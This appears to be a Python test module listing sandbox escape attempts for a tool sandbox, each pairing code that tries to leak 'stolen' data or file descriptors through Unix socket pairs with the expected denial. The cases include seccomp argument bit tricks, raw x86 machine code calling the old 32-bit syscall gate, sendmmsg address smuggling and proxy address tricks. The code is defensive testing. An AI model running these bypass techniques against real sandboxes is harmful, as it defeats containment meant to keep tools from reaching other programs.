"""Attempts to reach others by pairs of sockets, the only ones that a tool gets without a grant."""

from __future__ import annotations

import textwrap

from hostile.attack import NO_NETWORK, NOT_PERMITTED, NOTHING_FOUND, Attack

DONE = "\nreturn OutputModel(value='done')"
NO_ACCESS = r"denied: .*Permission denied"
CONNECTED = "crashed: OSError: .*already connected"
ADDRESSED = """
import socket
one, other = socket.socketpair()
name = s["unix"].encode()
address = ctypes.create_string_buffer(b"\\1\\0" + name + b"\\0", len(name) + 3)
content = ctypes.create_string_buffer(b"x", 1)
part = (ctypes.c_uint64 * 2)(ctypes.addressof(content), 1)
message = (ctypes.c_uint64 * 8)(ctypes.addressof(address), len(address), ctypes.addressof(part), 1)
"""
"""A message to the path of the host's listener, as struct msghdr, with room behind it for a struct mmsghdr."""


def datagram(name: str, harm: str, source: str, kind: str = "socket.SOCK_DGRAM", *, granted: bool = False) -> Attack:
    """`source` has the pair's ends, `one` and `other`, where it gets so far."""
    body = f"one, other = socket.socketpair(socket.AF_UNIX, {kind})\n{textwrap.dedent(source).strip()}\n"
    whole = f"import array, socket\ndef send():\n{textwrap.indent(body, '    ')}send(){DONE}"
    return Attack(name, harm, NETWORK[granted], whole, granted=granted)


NETWORK = {False: NO_NETWORK, True: r"denied: a tool reaches granted hosts alone"}


def stream(name: str, harm: str, told: str, source: str, **more: object) -> Attack:
    before = "import socket\none, other = socket.socketpair()\none.send(b'x')\nassert other.recv(1) == b'x'\n"
    return Attack(name, harm, told, before + textwrap.dedent(source).strip() + DONE, **more)  # type: ignore[arg-type]


ATTACKS = (
    datagram(
        "a datagram to a unix socket by its path",
        "a service of the host, such as the system's log, is sent what the tool read",
        "one.sendto(b'stolen', s['datagrams'])",
    ),
    datagram(
        "a datagram to an abstract unix socket",
        "a service without a path is sent what the tool read",
        "one.sendto(b'stolen', s['abstract_datagrams'])",
    ),
    datagram(
        "a datagram pair that is connected anew",
        "what the tool sends goes to a service of the host",
        "one.connect(s['datagrams'])\none.send(b'stolen')",
    ),
    datagram(
        "a datagram with a descriptor",
        "a file of the tool's, or the way to one, is handed to a service of the host",
        """
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]
        one.sendmsg([b"stolen"], rights, 0, s["datagrams"])
        """,
    ),
    datagram(
        "a datagram to a socket among the task's files",
        "a service whose socket lies in a folder of the user's is reached",
        "one.sendto(b'stolen', s['shared'] + '/datagrams')",
    ),
    datagram(
        "datagrams behind the flags of a type",
        "the kind of a pair is hidden by what else its type says",
        "one.sendto(b'stolen', s['datagrams'])",
        "socket.SOCK_DGRAM | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC",
    ),
    datagram(
        "a raw unix pair",
        "what the kernel takes for datagrams as well",
        "one.sendto(b'stolen', s['datagrams'])",
        "socket.SOCK_RAW",
    ),
    datagram(
        "a pair of packets in sequence",
        "a kind that nobody thought of leads out",
        "one.sendto(b'stolen', s['datagrams'])",
        "socket.SOCK_SEQPACKET",
    ),
    Attack(
        "a datagram pair by numbers with more bits",
        "the filter looks at more, or less, of an argument than the kernel",
        r"output: \[13, 13, 13, 13\]$",
        """
        pair, found = (ctypes.c_int * 2)(), []
        for family, kind in ((1, 2 | 1 << 32), (1 | 1 << 32, 2), (1 | 1 << 63, 2 | 1 << 40), (1, 2 | 1 << 31)):
            try:
                syscall(53 if os.uname().machine == "x86_64" else 199, family, kind, 0, pair)
                found.append(0)
            except OSError as error:
                found.append(error.errno)
        return OutputModel(value=found)
        """,
    ),
    Attack(
        "a datagram pair by 32-bit calls",
        "machine code makes the pair by the old gate, with other numbers",
        r"output: -(1|13|38)$|crashed: killed by signal",
        """
        import mmap
        if os.uname().machine != "x86_64":
            return OutputModel(value=-1)
        room = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)  # below 4 GiB
        start = ctypes.addressof(ctypes.c_char.from_buffer(room))
        assert start < 1 << 32
        code = "53b868010000bb01000000b90200000031d2be" + (start + 2048).to_bytes(4, "little").hex() + "cd805bc3"
        room.write(bytes.fromhex(code))  # push rbx; eax=360 (socketpair); unix, datagrams, 0, where to; int 0x80
        return OutputModel(value=ctypes.CFUNCTYPE(ctypes.c_int)(start)())
        """,
    ),
    stream(
        "a name in the workspace for a pair",
        "a socket is left for whoever reads the workspace",
        NO_ACCESS,
        "one.bind('here')",
    ),
    stream(
        "an abstract name for a pair", "other programs of the machine find the tool", NO_ACCESS, "one.bind('\\0here')"
    ),
    stream("a pair that listens", "others can connect to the tool", NO_ACCESS, "one.listen()"),
    stream("a pair that accepts", "others can connect to the tool", NO_ACCESS, "one.accept()"),
    stream("a pair that connects to a path", "a service of the host is reached", NO_ACCESS, "one.connect(s['unix'])"),
    stream(
        "a pair that connects when its other end is gone",
        "what is connected no more can be connected anew",
        NO_ACCESS,
        "other.close()\none.connect(s['unix'])",
    ),
    stream(
        "a pair that connects among the task's files",
        "a service whose socket lies in a folder of the user's is reached",
        NO_ACCESS,
        "one.connect(s['shared'] + '/listener')",
    ),
    stream(
        "a pair that sends to an address",
        "the address that comes with what is sent counts",
        NO_ACCESS,
        "one.sendto(b'stolen', s['unix'])",
    ),
    stream(
        "a pair whose message has an address",
        "an address in memory, where no filter sees it, counts",
        CONNECTED,
        "one.sendmsg([b'stolen'], [], 0, s['unix'])",
    ),
    stream(
        "a message with an address when the other end is gone",
        "an address in memory counts where nobody is connected",
        r"crashed: (OSError: .*(already connected|not supported)|BrokenPipeError)",
        "other.close()\none.sendmsg([b'stolen'], [], 0, s['unix'])",
    ),
    Attack(
        "many messages with addresses",
        "the call that sends many looks at addresses that the one for a single one does not",
        CONNECTED,
        f"{ADDRESSED}\nworked(libc.sendmmsg(one.fileno(), message, 1, 0))" + DONE,
    ),
    stream(
        "a program in a socket",
        "the kernel runs the tool's code for each message",
        NOT_PERMITTED,
        """
        code = (ctypes.c_uint64 * 1)(0xFFFFFFFF00000006)
        filled = (ctypes.c_uint64 * 2)(1, ctypes.addressof(code))
        worked(libc.setsockopt(one.fileno(), 1, 26, filled, 16))
        """,
    ),
    Attack(
        "every kind of pair to every socket of the host",
        "one way was forgotten",
        NOTHING_FOUND,
        """
        import itertools, socket
        found, tried = [], 0
        places = [s["unix"], s["abstract"], s["datagrams"], s["abstract_datagrams"], s["shared"] + "/datagrams",
                  s["shared"] + "/listener"]
        for kind, place in itertools.product((1, 2, 3, 4, 5, 6, 10), places):
            for way in (lambda end: end.connect(place), lambda end: end.sendto(b"stolen", place),
                        lambda end: end.sendmsg([b"stolen"], [], 0, place)):
                try:
                    tried += 1
                    way(socket.socketpair(socket.AF_UNIX, kind)[0])
                    found.append([kind, place])
                except OSError:
                    pass
        assert tried == 7 * 6 * 3
        return OutputModel(value=found)
        """,
    ),
    datagram(
        "granted: a datagram to a unix socket",
        "a service of the host is reached beside the door",
        "one.sendto(b'stolen', s['datagrams'])",
        granted=True,
    ),
    datagram(
        "granted: a datagram with a descriptor",
        "a tool that may speak to one host hands its files to another program",
        """
        rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))]
        one.sendmsg([b"stolen"], rights, 0, s["abstract_datagrams"])
        """,
        granted=True,
    ),
    stream(
        "granted: a pair to the sockets of the host",
        "what makes connections to the granted host makes others",
        r'output: "done"$',
        """
        for place in (s["unix"], s["abstract"], s["shared"] + "/listener"):
            for way in (lambda: one.connect(place), lambda: one.sendto(b"stolen", place),
                        lambda: one.sendmsg([b"stolen"], [], 0, place)):
                try:
                    way()
                except OSError:
                    pass
        """,
        granted=True,
    ),
    stream(
        "granted: names for a pair",
        "others of the machine find the tool, or a socket is left in the workspace",
        r'output: "done"$',
        """
        def await_others(name):
            try:
                one.bind(name)
                one.listen()
            except OSError:
                pass
        await_others("here")
        await_others("\\0here")
        """,
        granted=True,
    ),
    Attack(
        "granted: an address with what is sent",
        "a socket that is connected to the proxy sends elsewhere",
        r'output: \["(HTTP/1.1 400|\w*Error)", "(HTTP/1.1 400|\w*Error)"\]$',
        """
        import socket
        found = []
        for way in ("sendto", "sendmsg"):
            with socket.create_connection(("127.0.0.1", 3128), 15) as client:
                data, place = b"stolen\\r\\n\\r\\n", ("127.0.0.1", s["port"])
                try:
                    client.sendto(data, place) if way == "sendto" else client.sendmsg([data], [], 0, place)
                    found.append(client.recv(1000).decode().partition(" the")[0][:12])
                except OSError as error:
                    found.append(type(error).__name__)
        return OutputModel(value=found)
        """,
        granted=True,
    ),
    Attack(
        "granted: addresses of the machine's interfaces",
        "the machine's addresses are read off a socket",
        r"denied: .*not permitted",
        """
        import fcntl, socket
        with socket.socket() as client:
            names = ctypes.create_string_buffer(4096)
            request = (ctypes.c_uint64 * 2)(4096, ctypes.addressof(names))
            fcntl.ioctl(client.fileno(), 0x8912, request)
            return OutputModel(value=names.raw[:request[0]].hex())
        """,
        granted=True,
    ),
)
